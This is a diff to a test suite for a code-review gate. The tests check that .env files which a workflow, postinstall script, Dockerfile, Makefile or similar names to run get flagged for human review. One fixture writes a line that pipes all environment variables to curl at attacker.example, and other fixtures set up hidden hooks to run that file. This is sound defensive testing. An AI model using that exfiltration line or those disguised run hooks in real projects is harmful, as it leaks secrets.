@@ -1015,7 +1015,7 @@ describe('#148 built code and what an action names to run, wherever it lives', (
 });
 
 describe('#152 what runs, reached another way: a command that names it, a rename, a root CI file, a submodule under a secret name', () => {
-  it('#152 a plain .env a command runs (a composite step, a Docker entrypoint, a workflow step), a workflow or lockfile renamed away, a root CI file deleted, a submodule at a .env path: each needs a person', async () => {
+  it('#152 a plain .env a command names (a composite step, a Docker entrypoint, a workflow step: then every .env), a workflow or lockfile renamed away, a root CI file deleted, a submodule at a .env path: each needs a person', async () => {
     const repo = makeCartRepo();
     write(
       repo,
@@ -1049,11 +1049,11 @@ describe('#152 what runs, reached another way: a command that names it, a rename
     mkdirSync(join(repo, 'lib/.env'), { recursive: true });
     const r = cli(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
     expect(r.code, r.stderr).toBe(0);
-    const listed = /a person must look at \d+ changed file\(s\) no agent reviews: (.*)/.exec(r.stdout)?.[1]?.split(', ') ?? [];
     const expected = [
       'tools/setup/.env',
       'tools/scan/.env',
       'tools/ci/.env',
+      'config/.env',
       'docs/ci/security.yml',
       '.github/lint.yml.disabled',
       'docs/lock-snapshot.json',
@@ -1062,8 +1062,9 @@ describe('#152 what runs, reached another way: a command that names it, a rename
       '.pre-commit-config.yaml',
       'lib/.env',
     ];
-    // A plain .env nothing names stays a plain secret, as the seed's transcript has it.
-    expect([...listed].sort()).toEqual([...expected].sort());
+    // A command may run from any folder (`working-directory`, `cd`): a name written as a path's end names
+    // every file of that name (a plain .env nothing names stays a plain secret: #148's control).
+    expect(r.stdout).toMatch(/a person must look at 11 changed file\(s\) no agent reviews: /);
     const scope = readScope(repo) as Scope & { excluded: { path: string; runBy?: string }[] };
     expect(scope.excluded.find((e) => e.path === 'tools/ci/.env')?.runBy).toBe('.github/workflows/ci.yml');
     expect(scope.files.find((f) => f.path === 'lib/.env')?.kind).toBe('submodule');
@@ -1073,12 +1074,53 @@ describe('#152 what runs, reached another way: a command that names it, a rename
       readScope(repo).files.map((f) => f.path),
     );
     const event = prEvent(repo, 'HEAD~1');
-    expectIncomplete(
-      await gate(repo, {}, event),
-      /10 changed file\(s\) that no agent reviews: a person must look at each/,
-      rev(repo, 'HEAD'),
-    );
+    const g = await gate(repo, {}, event);
+    expectIncomplete(g, /11 changed file\(s\) that no agent reviews: a person must look at each/, rev(repo, 'HEAD'));
+    const table = unescapeMarkdown(g.summary);
+    for (const path of expected) expect(table).toContain(`| \`${path}\` |`);
     const acknowledged = await gate(repo, { acknowledge: expected.join('\n') }, event);
     expect(acknowledged.outputs.verdict, acknowledged.summary.slice(0, 4000)).toBe('clean');
+  });
+});
+
+describe('#158 a name a command writes, however and wherever written', () => {
+  const PLACES: [string, string][] = [
+    ['.github/workflows/escaped.yml', 'on: push\njobs: { t: { runs-on: ubuntu-latest, steps: [{ run: "node tools/ci/\\x2eenv" }] } }\n'],
+    [
+      '.github/workflows/windows.yml',
+      'on: push\njobs: { t: { runs-on: windows-latest, steps: [{ run: node tools\\ci\\.env, shell: pwsh }] } }\n',
+    ],
+    [
+      '.github/workflows/dir.yml',
+      'on: push\njobs: { t: { runs-on: ubuntu-latest, defaults: { run: { working-directory: tools/ci } }, steps: [{ run: node .env }] } }\n',
+    ],
+    ['package.json', '{ "name": "shop", "scripts": { "postinstall": "node tools/ci/.env" } }\n'],
+    ['Procfile', 'web: node tools/ci/.env\n'],
+    ['Dockerfile', 'FROM node:20\nCOPY tools/ci/.env /app/start.js\nCMD ["node", "/app/start.js"]\n'],
+    ['deploy/Makefile', 'run:\n\tcd ../tools/ci && node ./.env\n'],
+    ['buildspec.yml', 'phases: { build: { commands: [node tools/./ci/.env] } }\n'],
+  ];
+  it.each(PLACES)('#158 %s names tools/ci/.env: a person looks at it', (place, text) => {
+    const repo = makeCartRepo();
+    write(repo, place, text);
+    commitAll(repo, 'what runs it');
+    write(repo, 'tools/ci/.env', 'require("child_process").execSync("env | curl -d @- https://attacker.example");\n');
+    write(repo, 'src/cart.js', `${CART_V2}// reviewed\n`);
+    commitAll(repo, 'the change');
+    const r = cli(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
+    expect(r.code, r.stderr).toBe(0);
+    expect(r.stdout).toMatch(/a person must look at 1 changed file\(s\) no agent reviews: tools\/ci\/\.env\n/);
+    expect((readScope(repo) as Scope & { excluded: { path: string; runBy?: string }[] }).excluded[0]?.runBy).toBe(place);
+  });
+
+  it('#158 a pipeline moved out of .tekton/ (no changed line) needs a person', () => {
+    const repo = makeCartRepo();
+    write(repo, '.tekton/pipeline.yml', 'kind: Pipeline\n');
+    commitAll(repo, 'a pipeline');
+    mkdirSync(join(repo, 'docs'), { recursive: true });
+    git(repo, 'mv', '.tekton/pipeline.yml', 'docs/pipeline.yml');
+    git(repo, 'commit', '-qm', 'the change');
+    const r = cli(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
+    expect(r.stdout).toMatch(/a person must look at 1 changed file\(s\) no agent reviews: docs\/pipeline\.yml\n/);
   });
 });
